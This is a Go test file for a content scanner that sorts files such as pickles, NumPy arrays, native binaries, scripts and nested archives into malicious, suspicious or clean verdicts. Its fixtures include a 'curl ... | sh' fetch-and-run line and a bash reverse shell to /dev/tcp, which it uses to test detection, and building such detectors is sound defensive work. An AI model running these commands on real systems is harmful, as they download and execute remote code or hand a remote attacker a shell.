package content

import (
	"encoding/binary"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/mlbom/mlbom/sbom"
)

func elf(order binary.ByteOrder, class byte) string {
	h := make([]byte, 64)
	copy(h, "\x7fELF")
	h[4], h[5], h[6] = class, 1, 1
	if order == binary.BigEndian {
		h[5] = 2
	}
	order.PutUint16(h[16:], 3)
	order.PutUint16(h[18:], 62)
	if class == 2 {
		order.PutUint16(h[52:], 64)
	} else {
		order.PutUint16(h[40:], 52)
	}
	return string(h)
}

const npyHead = "\x93NUMPY\x01\x00\x46\x00"

// TestKinds: what is known by its content, with verdict and rules.
func TestKinds(t *testing.T) {
	fine, object, plain := "\x80\x02}q\x00.", npyHead+pad("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"), npyHead+pad("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }")
	for name, c := range map[string]struct {
		data, kind string
		verdict    sbom.Verdict
		rule       string
	}{
		"harm":           {harm, "pickle", sbom.Malicious, sbom.RuleUnsafeCall},
		"fine":           {fine, "pickle", sbom.Clean, ""},
		"npy":            {plain + "\x00\x00\x80\x3f", "npy", sbom.Clean, ""},
		"npy of objects": {object + harm, "npy", sbom.Malicious, sbom.RuleUnsafeCall},
		"npy broken":     {object + "nothing of a pickle", "npy", sbom.Undecided, sbom.RuleIncomplete},
		"elf":            {elf(binary.LittleEndian, 2), "elf", sbom.SuspiciousUse, sbom.RuleNative},
		"elf 32":         {elf(binary.LittleEndian, 1), "elf", sbom.SuspiciousUse, sbom.RuleNative},
		"elf big":        {elf(binary.BigEndian, 2), "elf", sbom.SuspiciousUse, sbom.RuleNative},
		"elf by chance":  {"\x7fELF" + strings.Repeat("\x01", 100), "", "", ""},
		"MZ by chance":   {"MZ" + strings.Repeat("\x01", 100), "", "", ""},
		"ape":            {"MZqFpD='\n\n\x00\x10" + strings.Repeat("\x00", 100), "ape", sbom.SuspiciousUse, sbom.RuleNative},
		"java class":     {"\xca\xfe\xba\xbe\x00\x00\x00\x34" + strings.Repeat("\x00", 40), "", "", ""},
		"script":         {"#!/bin/sh\ncurl https://x.example | sh\n", "script", sbom.SuspiciousUse, sbom.RuleSuspicious},
		"reverse shell":  {"#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/99 0>&1\n", "script", sbom.SuspiciousUse, sbom.RuleSuspicious},
		"port check":     {"#!/bin/bash\nwhile ! (echo > /dev/tcp/localhost/80); do sleep 1; done\n", "script", "", ""},
		"fine script":    {"#!/usr/bin/env bash\nrm -rf /tmp/x\ncurl -o a https://x.example/a\n", "script", "", ""},
		"text":           {"cost of\nliving\nin 2020.", "", "", ""},
		"json":           {`{"a": [1, 2, 3], "b": "c"}`, "", "", ""},
		"zip of elf":     {string(zipped(t, "a/b.so", elf(binary.LittleEndian, 2))), "zip", sbom.SuspiciousUse, sbom.RuleNative},
		"wheel":          {string(zipped(t, "a/b.so", elf(binary.LittleEndian, 2), "a-1.dist-info/WHEEL", "Wheel-Version: 1.0\n")), "zip", sbom.Clean, ""},
		"gzip of gzip":   {string(gzips(t, []byte(harm), 3)), "gzip", sbom.Malicious, sbom.RuleUnsafeCall},
		"zip in gzip":    {string(gzips(t, zipped(t, "x", string(zipped(t, "y", harm))), 1)), "zip+gzip", sbom.Malicious, sbom.RuleUnsafeCall},
		"empty":          {"", "", "", ""},
	} {
		r := examine([]byte(c.data), sbom.Limits{})
		rule := ""
		if len(r.Findings) > 0 {
			rule = r.Findings[0].Rule
		}
		if r.Kind != c.kind || r.Scan.Verdict != c.verdict || rule != c.rule {
			t.Errorf("%s: got %s", name, describe(name, r))
		}
		f := sbom.NewFile(fstest.MapFS{"x": {Data: []byte(c.data)}}, "x")
		if kind, err := Kind(f); err != nil || !strings.Contains(kind+"zip+gzip", c.kind) {
			t.Errorf("%s: kind %q, %v", name, kind, err)
		}
	}
}

// pad fills a header of NumPy to the length that npyHead states.
func pad(s string) string { return s + strings.Repeat(" ", 69-len(s)) + "\n" }
